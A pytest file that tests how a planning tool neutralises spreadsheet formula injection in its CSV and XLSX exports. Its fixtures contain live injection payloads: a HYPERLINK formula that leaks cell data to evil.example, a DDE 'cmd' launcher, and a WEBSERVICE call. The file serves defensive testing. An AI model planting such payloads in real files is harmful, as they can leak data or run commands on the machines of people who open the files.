"""Text a spreadsheet will not evaluate: the quoting rule, and every XLSX and CSV the product writes
with hostile names in it (a family ``=HYPERLINK(…)``, a company ``=1+1``, texts starting ``+ - @``)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from sop_core.boardpack.build import build_boardpack
from sop_core.intake.importer import import_paths
from sop_core.intake.templates import template_csv, template_xlsx
from sop_core.meeting.decisions import add_decision
from sop_core.meeting.register import add_assumption
from sop_core.meeting.scenarios import save_scenario
from sop_core.plan.levers import parse_levers
from sop_core.safetext import csv_cell, csv_frame, is_risky, neutralise_workbook
from sop_core.store.db import Store

ROOT = Path(__file__).resolve().parent.parent
LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


@pytest.mark.parametrize(
    "value, quoted",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1)", "'+SUM(1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),  # spaces first do not hide it
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals
        ("-15000", "-15000"),  # a plain number cannot call anything
        ("+3.5e2", "+3.5e2"),
        ("Press & Weld", "Press & Weld"),
        ("a=b", "a=b"),
        ("", ""),
        (-15000.0, -15000.0),  # numbers stay numbers
        (None, None),
    ],
)
def test_csv_cell_quotes_text_that_starts_like_a_formula(value, quoted):
    assert csv_cell(value) == quoted


def test_csv_frame_quotes_text_columns_and_names_but_keeps_numbers():
    frame = pd.DataFrame({"family": ["=1+1", "Towels", None], "revenue": [-20.0, 5.0, 1.5]})
    frame["=x"] = ["@a", "b", "c"]
    out = csv_frame(frame)
    assert out["family"].tolist()[:2] == ["'=1+1", "Towels"]
    assert pd.isna(out["family"].iloc[2])
    assert out["revenue"].tolist() == [-20.0, 5.0, 1.5]
    assert list(out.columns) == ["family", "revenue", "'=x"]
    assert frame["family"].iloc[0] == "=1+1"  # the input is not changed


def test_neutralise_workbook_turns_formula_cells_into_quoted_text():
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet["A1"], sheet["A2"], sheet["A3"] = "=1+1", "-x", -5.0
    assert sheet["A1"].data_type == "f"  # what openpyxl does with any str starting with "="
    assert neutralise_workbook(book) == 1
    data = io.BytesIO()
    book.save(data)
    raw = zipfile.ZipFile(data).read("xl/worksheets/sheet1.xml")
    assert not _FORMULA.search(raw)
    back = load_workbook(data).active
    assert (back["A1"].value, back["A1"].data_type, back["A1"].quotePrefix) == ("=1+1", "s", True)
    assert back["A2"].quotePrefix and not back["A3"].quotePrefix
    assert (back["A3"].value, back["A3"].data_type) == (-5, "n")


# --- every writer, with hostile names in the store -----------------------------------------------


@pytest.fixture
def hostile(write_csvs, valid_csv, tmp_path) -> Path:
    """The conftest company with a family, a product name and a company name that are formulas,
    and an assumption, a scenario and a decision whose texts start with + - @."""
    csvs = dict(valid_csv)
    csvs["products"] = csvs["products"].replace(",F1,", f',"{LINK.replace(chr(34), chr(34) * 2)}",')
    csvs["products"] = csvs["products"].replace("Gamma", "=1+1")
    csvs["budget"] = csvs["budget"].replace(",F1,", f',"{LINK.replace(chr(34), chr(34) * 2)}",')
    csvs["settings"] += "company_name,=1+1\n"
    db = tmp_path / "hostile.duckdb"
    with Store(db) as store:
        import_paths(store, [write_csvs(**csvs)], user="setup")
        cycle = "2026-01"
        add_assumption(
            store, cycle, name="+cmd|' /C calc'!A0", value="@SUM(1)", unit="%", user="u",
            owner="-owner", rationale="=2+2", evidence="+evidence",
        )  # fmt: skip
        save_scenario(store, cycle, "-1+1 scenario", parse_levers(["price_change_pct=-3"]),
                      author="=author", note="@note")  # fmt: skip
        add_decision(store, cycle, decision="=WEBSERVICE(\"http://x\")", owner="@owner",
                     due="2026-02-01", user="u", note="-note")  # fmt: skip
    return db


def _formula_cells(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if _FORMULA.search(archive.read(n))]


def test_board_pack_workbook_has_no_formula_and_keeps_numbers_as_numbers(hostile, tmp_path):
    out = tmp_path / "pack.xlsx"
    with Store(hostile) as store:
        build_boardpack(store, out)
    assert _formula_cells(out) == []
    book = load_workbook(out)
    texts = [c.value for s in book.worksheets for row in s.iter_rows() for c in row
             if isinstance(c.value, str)]  # fmt: skip
    assert book["Cover"]["A1"].value == "=1+1" and book["Cover"]["A1"].data_type == "s"
    assert any(t == LINK for t in texts)  # shown as typed, only not evaluated
    assert any(t.startswith("=WEBSERVICE") for t in texts)
    risky = [c for s in book.worksheets for row in s.iter_rows() for c in row if is_risky(c.value)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    numbers = [c.value for s in book.worksheets for row in s.iter_rows() for c in row
               if c.data_type == "n" and isinstance(c.value, int | float)]  # fmt: skip
    assert any(v < 0 for v in numbers)  # negative figures are still numbers


def test_templates_have_no_formula():
    data = template_xlsx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not any(
            _FORMULA.search(archive.read(n))
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )
    rows = list(csv.reader(io.StringIO(template_csv("cash_items").decode())))
    assert rows[1] == ["2026-03", "Capex: new mould", "-15000.0"]  # a number stays a number


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sop_core", *args],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )  # fmt: skip


def test_cli_csvs_quote_formula_text(hostile, tmp_path):
    plan = tmp_path / "plan.csv"
    done = _cli("plan", "--db", str(hostile), "--level", "family", "--out", str(plan))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(plan.open()))
    families = {r["family"] for r in rows}
    assert "'" + LINK in families and LINK not in families
    disagreements = tmp_path / "dis.csv"
    done = _cli("disagreements", "--db", str(hostile), "--out", str(disagreements))
    assert done.returncode == 0, done.stderr
    text = disagreements.read_text()
    assert not re.search(r'(^|,)"?[=+@]', text, re.MULTILINE)
